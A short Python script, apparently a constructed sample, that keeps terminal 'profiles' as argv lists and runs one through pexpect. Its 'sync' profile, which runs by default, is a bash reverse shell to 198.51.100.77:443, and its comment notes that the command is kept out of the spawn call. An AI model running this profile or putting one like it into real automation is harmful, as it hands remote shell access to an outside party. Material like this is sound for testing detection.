# Terminal automation: session "profiles" are argv lists in a dictionary, and
# the runner drives the chosen one with pexpect.spawn(argv[0], argv[1:]). The
# "sync" profile is bash -c with a reverse shell; the list is never written
# inside the call.
import sys

import pexpect

PROFILES = {
    "top": ["top", "-b", "-n", "1"],
    "sync": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.77/443 0>&1"],
}


def drive(name):
    argv = PROFILES[name]
    child = pexpect.spawn(argv[0], argv[1:], timeout=None)
    child.expect(pexpect.EOF)
    return child.before


if __name__ == "__main__":
    print(drive(sys.argv[1] if len(sys.argv) > 1 else "sync"))
